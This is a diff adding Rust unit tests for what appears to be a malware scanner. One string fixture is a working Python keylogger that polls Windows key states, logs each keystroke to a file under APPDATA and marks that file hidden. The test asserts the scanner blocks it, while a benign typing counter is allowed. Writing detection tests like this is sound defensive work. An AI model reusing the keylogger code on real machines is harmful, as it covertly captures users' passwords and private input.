@@ -536,3 +536,44 @@ quiet(["networksetup", "-setdnsservers", "Wi-Fi", "1.1.1.1", "9.9.9.9"])
     let a = run(dns);
     assert!(!rules(&a).contains(&"MB947"), "{:?}", a.findings);
 }
+
+/// Keys polled in a loop and saved to a file the script then hides is a
+/// keylogger keeping its log out of sight (ec76111: HIGH).
+#[test]
+fn keystrokes_kept_in_a_hidden_file() {
+    let hidden = r#"import ctypes, os, time
+user32 = ctypes.windll.user32
+LOG = os.path.join(os.environ["APPDATA"], "kb.dat")
+while True:
+    for code in range(8, 255):
+        if user32.GetAsyncKeyState(code) & 1:
+            with open(LOG, "a") as out:
+                out.write(chr(code))
+    ctypes.windll.kernel32.SetFileAttributesW(LOG, 2)
+    time.sleep(0.01)
+"#;
+    let a = run(hidden);
+    assert!(rules(&a).contains(&"MB940"), "{:?}", a.findings);
+    assert_eq!(a.verdict, Verdict::Blocked);
+}
+
+/// The same polling that keeps its counts in a file left visible (a
+/// typing-speed meter) is MB212 for review, not blocked.
+#[test]
+fn keystrokes_counted_into_a_visible_file_are_not_blocked() {
+    let meter = r#"import ctypes, time
+user32 = ctypes.windll.user32
+hits = 0
+while True:
+    for code in range(8, 255):
+        if user32.GetAsyncKeyState(code) & 1:
+            hits += 1
+    with open("typing_rate.txt", "w") as out:
+        out.write(str(hits))
+    ctypes.windll.kernel32.SetFileAttributesW("typing_rate.txt", 0x80)
+    time.sleep(0.01)
+"#;
+    let a = run(meter);
+    assert!(!rules(&a).contains(&"MB940"), "{:?}", a.findings);
+    assert!(a.verdict < Verdict::Blocked, "{:?}", a.findings);
+}
